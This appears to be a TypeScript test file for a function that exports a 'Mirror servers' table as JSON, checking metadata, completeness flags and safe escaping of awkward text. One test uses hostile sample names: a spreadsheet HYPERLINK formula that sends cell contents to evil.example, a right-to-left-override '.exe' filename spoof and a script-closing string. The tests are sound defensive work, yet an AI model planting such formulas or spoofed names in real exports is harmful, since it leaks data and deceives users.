import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import type { ExportColumn, ExportFacts } from './export-table.ts'
import { jsonText } from './json-text.ts'
import { tableJson } from './table-json.ts'

type Row = { readonly name: string; readonly seen: number | null; readonly lag: number | null }

const columns: readonly ExportColumn<Row>[] = [
  { id: 'name', header: 'Name', text: ({ name }) => name },
  {
    id: 'last-seen',
    header: 'Last seen',
    text: ({ seen }) => (seen === null ? null : new Date(seen).toISOString()),
  },
  {
    id: 'lag',
    header: 'Behind',
    text: ({ lag }) => (lag === null ? null : `${String(lag)} s`),
    value: ({ lag }) => lag,
  },
]

const whole: ExportFacts = {
  readAt: 1_000,
  search: '',
  filter: {},
  sort: null,
  readCount: 2,
  total: 2,
  lacks: [],
}
const textOf = (rows: readonly Row[], facts: Partial<ExportFacts> = {}, of = columns) =>
  tableJson(
    { label: 'Mirror servers', columns: of, rows, facts: { ...whole, ...facts } },
    { page: 'https://console.example/mirrors?search=o', now: 2_000 },
  )
// oxlint-disable-next-line typescript/no-unsafe-type-assertion -- The test says what it expects in it.
const read = (text: string) => JSON.parse(text) as Record<string, unknown>

const dublin: Row = { name: 'Dublin', seen: 0, lag: 3 }
const silent: Row = { name: '', seen: null, lag: null }

describe('a table as JSON', () => {
  it('is one object: what it is, then its rows by the ids of the columns', () => {
    expect(read(textOf([dublin, silent], { sort: { id: 'name', direction: 'desc' }, search: 'o' }))).toEqual({
      list: 'Mirror servers',
      page: 'https://console.example/mirrors?search=o',
      exportedAt: '1970-01-01T00:00:02.000Z',
      readAt: '1970-01-01T00:00:01.000Z',
      search: 'o',
      filter: {},
      sort: { column: 'name', direction: 'desc' },
      complete: true,
      lacks: [],
      read: 2,
      total: 2,
      exported: 2,
      columns: { name: 'Name', 'last-seen': 'Last seen', lag: 'Behind' },
      rows: [
        { name: 'Dublin', 'last-seen': '1970-01-01T00:00:00.000Z', lag: 3 },
        { name: '', 'last-seen': null, lag: null },
      ],
    })
  })

  it('has a row on each line, and is JSON without any', () => {
    expect(
      textOf([dublin])
        .split('\n')
        .filter((line) => line.includes('Dublin')),
    ).toEqual(['    {"name":"Dublin","last-seen":"1970-01-01T00:00:00.000Z","lag":3}'])
    expect(read(textOf([]))['rows']).toEqual([])
  })

  it.each([
    { what: 'is whole', facts: {}, says: { complete: true, read: 2, total: 2, lacks: [] } },
    {
      what: 'lacks unreadable rows',
      facts: { total: 4, lacks: ['2 unreadable left out.'] },
      says: { complete: false, read: 2, total: 4, lacks: ['2 unreadable left out.'] },
    },
    {
      what: 'ended early',
      facts: { total: null, lacks: ['The list may be incomplete.'] },
      says: { complete: false, read: 2, total: null, lacks: ['The list may be incomplete.'] },
    },
    { what: 'was read at an unknown time', facts: { readAt: null }, says: { complete: true, readAt: null } },
  ])('says that the list $what', ({ facts, says }) => {
    expect(read(textOf([dublin, silent], facts))).toMatchObject(says)
  })

  it.each([
    ['a formula, which nothing runs here', '=HYPERLINK("https://evil.example/?"&A1,"Open")'],
    ['a name turned around', 'Dublin\u202Egnp.exe'],
    ['zero-width letters', 'a\u200Bb\uFEFF'],
    ['a line separator', 'a\u2028b\u0085c'],
    ['a tag beyond the first plane', 'a\u{E0041}b'],
    ['a half of a pair', 'a\uD800b'],
    ['quotes, a backslash and the end of a script', '"\\</script>\u0000'],
  ])('gives back %s as it was, and shows what it hides', (_what, name) => {
    const text = textOf([{ ...dublin, name }])
    expect(read(text)['rows']).toMatchObject([{ name }])
    expect(text).not.toMatch(/(?!\n)[\p{C}\p{Zl}\p{Zp}]/u)
  })

  it('keeps a column whose id is a word of JavaScript, and one that is a number, with the others', () => {
    const odd = ['__proto__', 'constructor', '7'].map((id) => ({ id, header: id, text: () => 'x' }))
    const [row] = [read(textOf([dublin], {}, odd))['rows']].flat()
    expect(Object.entries(row ?? {})).toEqual([
      ['7', 'x'],
      ['__proto__', 'x'],
      ['constructor', 'x'],
    ])
  })

  it('loses nothing of any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const written = jsonText([text], 2)
        expect(JSON.parse(written)).toEqual([text])
        expect(written).not.toMatch(/(?!\n)[\p{C}\p{Zl}\p{Zp}]/u)
      }),
      { numRuns: 500 },
    )
  })
})
